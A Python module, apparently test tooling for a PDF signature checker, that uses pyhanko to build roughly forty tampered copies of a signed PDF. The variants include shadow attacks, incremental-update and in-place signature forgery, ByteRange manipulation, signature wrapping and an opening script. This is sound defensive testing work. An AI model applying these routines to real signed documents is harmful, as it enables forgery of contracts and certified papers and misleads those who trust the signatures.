"""Attacks on signed papers, each made from a good file with our own hands.

Names follow the literature: signature wrapping, incremental saving, universal forgery (Mladenov et al., 2019), shadow
attacks (Mainka et al., 2021), attacks on certified papers (Rohlmann et al., 2021).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

G: Any = generic
Attack = Callable[[bytes], bytes]


def _set(name: str) -> Any:
    return G.NameObject(name)


def update(pdf: bytes, change: Callable[[Any], None]) -> bytes:
    """Return the file with one incremental update."""
    writer: Any = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    writer._update_meta = lambda: None
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: Any) -> Any:
    return writer.root["/Pages"]["/Kids"][0]


def _replace_content(writer: Any) -> None:
    page = _page(writer)
    page[_set("/Contents")] = writer.add_object(G.StreamObject(stream_data=b"0 0 200 200 re f"))
    writer.update_container(page)


def _overlay_note(writer: Any) -> None:
    page = _page(writer)
    look = G.StreamObject(
        {_set("/Type"): _set("/XObject"), _set("/Subtype"): _set("/Form"), _set("/BBox"): _box(0, 0, 200, 200)},
        stream_data=b"0 0 200 200 re f",
    )
    note = G.DictionaryObject(
        {
            _set("/Type"): _set("/Annot"),
            _set("/Subtype"): _set("/FreeText"),
            _set("/Rect"): _box(0, 0, 200, 200),
            _set("/AP"): G.DictionaryObject({_set("/N"): writer.add_object(look)}),
        }
    )
    page[_set("/Annots")] = G.ArrayObject([*page.get("/Annots", []), writer.add_object(note)])
    writer.update_container(page)


def _box(*numbers: int) -> Any:
    return G.ArrayObject([G.NumberObject(number) for number in numbers])


def _shown_field(writer: Any, *, kind: str = "/Sig") -> None:
    """An empty signature field whose look covers the page."""
    look = G.StreamObject(
        {_set("/Type"): _set("/XObject"), _set("/Subtype"): _set("/Form"), _set("/BBox"): _box(0, 0, 200, 200)},
        stream_data=b"0 0 200 200 re f",
    )
    page = _page(writer)
    field = G.DictionaryObject(
        {
            _set("/Type"): _set("/Annot"),
            _set("/Subtype"): _set("/Widget"),
            _set("/FT"): _set(kind),
            _set("/T"): G.TextStringObject("them"),
            _set("/F"): G.NumberObject(132),
            _set("/Rect"): _box(0, 0, 200, 200),
            _set("/AP"): G.DictionaryObject({_set("/N"): writer.add_object(look)}),
        }
    )
    ref = writer.add_object(field)
    page[_set("/Annots")] = G.ArrayObject([*page.get("/Annots", []), ref])
    writer.update_container(page)
    writer.root["/AcroForm"]["/Fields"].append(ref)
    writer.update_container(writer.root["/AcroForm"]["/Fields"])


def _new_catalogue(writer: Any) -> None:
    writer.root[_set("/OpenAction")] = G.DictionaryObject(
        {_set("/S"): _set("/JavaScript"), _set("/JS"): G.TextStringObject("1")}
    )
    writer.update_root()


def _swap_pages(writer: Any) -> None:
    page = G.DictionaryObject(
        {
            _set("/Type"): _set("/Page"),
            _set("/MediaBox"): _box(0, 0, 10, 10),
            _set("/Parent"): writer.root.raw_get("/Pages"),
        }
    )
    writer.root["/Pages"][_set("/Kids")] = G.ArrayObject([writer.add_object(page)])
    writer.update_container(writer.root["/Pages"])


def _drop_signature(writer: Any) -> None:
    writer.root["/AcroForm"][_set("/Fields")] = G.ArrayObject([])
    writer.update_container(writer.root["/AcroForm"])


def _signature(writer: Any) -> Any:
    return writer.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V").get_object()


def _forge(key: str, value: Callable[[], Any]) -> Callable[[Any], None]:
    """Universal forgery by an update: the signature object again, with one entry spoilt."""

    def change(writer: Any) -> None:
        found = _signature(writer)
        made = value()
        if made is None:
            del found[_set(key)]
        else:
            found[_set(key)] = made
        writer.mark_update(writer.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V").reference)

    return change


def _numbers(pdf: bytes) -> tuple[int, int, list[int]]:
    at = pdf.rindex(b"/ByteRange [") + len(b"/ByteRange [")
    end = pdf.index(b"]", at)
    return at, end, [int(word) for word in pdf[at:end].split()]


def set_range(pdf: bytes, change: Callable[[list[int]], list[int]]) -> bytes:
    """Return the file with other numbers in its last ByteRange, in the same room."""
    at, end, numbers = _numbers(pdf)
    text = b" ".join(str(number).encode() for number in change(numbers))
    return pdf[:at] + text.ljust(end - at)[: end - at] + pdf[end:]


def wrap(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed part is moved back, and own objects are put before it."""
    _, _, (_, first, start, length) = _numbers(pdf)
    extra = b"\n90 0 obj\n<< /Wrapped true >>\nendobj\n" + b" " * 40
    moved = pdf[:start] + extra + pdf[start:]
    return set_range(moved, lambda _: [0, first, start + len(extra), length])


def _in_place(old: bytes, new: bytes) -> Attack:
    """Universal forgery in place: an entry spoilt without moving a byte."""

    def attack(pdf: bytes) -> bytes:
        at = pdf.rindex(old)
        return pdf[:at] + new.ljust(len(old))[: len(old)] + pdf[at + len(old) :]

    return attack


def _spoil_contents(fill: Callable[[bytes], bytes]) -> Attack:
    def attack(pdf: bytes) -> bytes:
        start = pdf.rindex(b"/Contents <") + 11
        end = pdf.index(b">", start)
        return pdf[:start] + fill(pdf[start:end]) + pdf[end:]

    return attack


def _double_object(pdf: bytes) -> bytes:
    """Two objects of one number inside the signed part's tail: which one is read depends on the reader."""
    return pdf.replace(b"endobj\n", b"endobj\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", 1)


def _xref_elsewhere(pdf: bytes) -> bytes:
    """A second end of file that points to the first cross-reference table, before the signature."""
    first = re.search(rb"startxref\s+(\d+)", pdf)
    assert first
    return pdf + b"\nstartxref\n" + first.group(1) + b"\n%%EOF\n"


ATTACKS: dict[str, Attack] = {
    "shadow: page content replaced": lambda pdf: update(pdf, _replace_content),
    "shadow: pages swapped": lambda pdf: update(pdf, _swap_pages),
    "note over the page": lambda pdf: update(pdf, _overlay_note),
    "empty field over the page": lambda pdf: update(pdf, _shown_field),
    "button over the page": lambda pdf: update(pdf, lambda writer: _shown_field(writer, kind="/Btn")),
    "script at opening": lambda pdf: update(pdf, _new_catalogue),
    "idle object added": lambda pdf: update(pdf, lambda writer: writer.add_object(G.NullObject())),
    "signature dropped": lambda pdf: update(pdf, _drop_signature),
    "USF: no Contents": lambda pdf: update(pdf, _forge("/Contents", lambda: None)),
    "USF: null Contents": lambda pdf: update(pdf, _forge("/Contents", G.NullObject)),
    "USF: empty Contents": lambda pdf: update(pdf, _forge("/Contents", lambda: G.ByteStringObject(b""))),
    "USF: zero Contents": lambda pdf: update(pdf, _forge("/Contents", lambda: G.ByteStringObject(bytes(4000)))),
    "USF: no ByteRange": lambda pdf: update(pdf, _forge("/ByteRange", lambda: None)),
    "USF: null ByteRange": lambda pdf: update(pdf, _forge("/ByteRange", G.NullObject)),
    "USF: negative ByteRange": lambda pdf: update(pdf, _forge("/ByteRange", lambda: _box(0, -1, -1, -1))),
    "USF: short ByteRange": lambda pdf: update(pdf, _forge("/ByteRange", lambda: _box(0, 10))),
    "USF in place: ByteRange gone": _in_place(b"/ByteRange [", b"/ByteRangX ["),
    "USF in place: ByteRange zero": lambda pdf: set_range(pdf, lambda _: [0, 0, 0, 0]),
    "USF in place: Contents gone": _in_place(b"/Contents <", b"/Contentz <"),
    "USF in place: container zero": _spoil_contents(lambda hexed: b"0" * len(hexed)),
    "USF in place: container empty": _spoil_contents(lambda hexed: b" " * len(hexed)),
    "range: gap wider": lambda pdf: set_range(pdf, lambda n: [n[0], n[1] - 4, n[2], n[3]]),
    "range: parts overlap": lambda pdf: set_range(pdf, lambda n: [n[0], n[1], n[1] - 5, n[3]]),
    "range: not from the start": lambda pdf: set_range(pdf, lambda n: [1, n[1], n[2], n[3]]),
    "range: not to the end": lambda pdf: set_range(pdf, lambda n: [n[0], n[1], n[2], n[3] - 9]),
    "range: past the end": lambda pdf: set_range(pdf, lambda n: [n[0], n[1], n[2], n[3] + 9]),
    "range: six numbers": lambda pdf: set_range(pdf, lambda _: [0, 10, 20, 30, 40, 50]),
    "wrapping": wrap,
    "padding filled": _spoil_contents(lambda hexed: hexed[:-8] + b"deadbeef"),
    "padding spelt oddly": _spoil_contents(lambda hexed: hexed[:-2] + b" 0"),
    "appended: blank lines": lambda pdf: pdf + b"\n\n",
    "appended: text": lambda pdf: pdf + b"% thay doi\n",
    "appended: another file": lambda pdf: pdf + pdf,
    "appended: second end": _xref_elsewhere,
    "before: junk": lambda pdf: b"MZ\n" + pdf,
    "inside: double object": _double_object,
    "cut by a byte": lambda pdf: pdf[:-1],
    "cut in half": lambda pdf: pdf[: len(pdf) // 2],
    "version changed": lambda pdf: pdf.replace(b"%PDF-1.7", b"%PDF-1.4", 1),
}  # fmt: skip
